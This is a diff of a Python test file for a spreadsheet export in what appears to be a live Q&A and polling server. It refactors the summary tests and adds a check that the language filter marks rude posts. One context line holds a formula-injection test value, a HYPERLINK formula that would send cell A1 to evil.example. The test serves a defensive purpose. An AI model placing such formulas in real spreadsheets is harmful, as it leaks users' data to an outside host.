@@ -16,9 +16,10 @@ import pytest_asyncio
 from openpyxl.worksheet.worksheet import Worksheet
 
 from server.export import COLUMNS
-from server.export_summary import SUMMARISERS, TOP_POSTS, TOP_WORDS
 from server.export_workbook import MAX_WIDTH
-from server.kinds import KINDS
+from server.kinds import KINDS, Kind, aggregates, questions_from_specs, tally
+from server.kinds.qa import TOP_POSTS
+from server.kinds.word_cloud import TOP_WORDS
 
 from .client import SIMPLE_QUESTIONS, Organizer, Phone
 from .conftest import RunningServer
@@ -28,6 +29,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click me")'
 ARABIC = "لم نتفق أبدا على النجاح 🙂"
 COMPOUND = "Unsere Fachkräftemangelbekämpfungsstrategieentwicklung kam nie zustande"
 RUDE = "What a shit plan"  # the language filter catches it
+RUDE_POST = "Why is this plan so shit?"
 HIDDEN = "Please hide this one"
 LONG_POST = "How will we know the coaching worked, and who will check it?"  # wraps
 # Stories long enough to wrap: the open text question of the kinds' examples takes 50
@@ -42,8 +44,11 @@ class Exported:
     raw: bytes
 
 
-def test_every_kind_has_a_summary() -> None:
-    assert set(SUMMARISERS) == set(KINDS)
+@pytest.mark.parametrize("kind", KINDS.values(), ids=list(KINDS))
+def test_every_kind_sums_up_even_before_anyone_answered(kind: Kind[Any]) -> None:
+    [q] = questions_from_specs([kind.spec.model_validate(kind.examples.question)])
+    table = aggregates(q, tally(q, []), 0)
+    assert table.columns and all(len(row) == len(table.columns) for row in table.rows)
 
 
 def test_readme_states_the_workbook_limits() -> None:
@@ -100,7 +105,13 @@ async def answer_as_a_room(server: RunningServer, session: dict[str, Any]) -> No
             "q9": ["zeitdruck", "time"],
             "q10": {"ask": "من يقرر؟ 🤔"},
         },
-        {"q1": "learner", "q4": COMPOUND + " " + RUDE, "q5": 8, "q9": ["Time", "shit"]},
+        {
+            "q1": "learner",
+            "q4": COMPOUND + " " + RUDE,
+            "q5": 8,
+            "q9": ["Time", "shit"],
+            "q10": {"ask": RUDE_POST},
+        },
         {"q4": HIDDEN},
     ]
     phones = [Phone(server) for _ in answers]
@@ -195,6 +206,7 @@ def test_participants_sheet_has_a_row_per_participant_and_a_column_per_question(
     q10 = "Q10 What do you want to ask the sponsor?"
     assert second[q10] == f"من يقرر؟ 🤔\n{LONG_POST}"
     assert third["Q9 In a word or two: what gets in the way?"] == "[filtered] Time; shit"
+    assert third[q10] == f"[filtered] {RUDE_POST}"
     assert sheet.freeze_panes == f"B{header_row + 1}"
 
 
@@ -334,7 +346,7 @@ def expected_rows(q: dict[str, Any], result: dict[str, Any], responses: int) -> 
             (Starts("Hidden by the language filter"), filtered),
         ]
     if kind == "qa":
-        posts = [(Ends(i["text"]), i["votes"]) for i in result["items"]]
+        posts = [(tagged(i), i["votes"]) for i in result["items"]]
         return [(f"All {len(posts)} posts", sum(i["votes"] for i in result["items"])), *posts]
     raise AssertionError(f"no expected summary for {kind}")
 
@@ -353,11 +365,8 @@ class Starts:
         return isinstance(other, str) and other.startswith(self.prefix)
 
 
-@dataclass
-class Ends:
-    """A post's text, after the marks of what the room did to it."""
-
-    text: str
-
-    def __eq__(self, other: object) -> bool:
-        return isinstance(other, str) and other.endswith(self.text)
+def tagged(post: dict[str, Any]) -> str:
+    """A Q&A post as the summary lists it, with what the room did to it in front."""
+    names = {"pending": "awaiting approval"}
+    marks = [names.get(m, m) for m in ("hidden", "filtered", "pending", "answered") if post[m]]
+    return f"[{', '.join(marks)}] {post['text']}" if marks else post["text"]
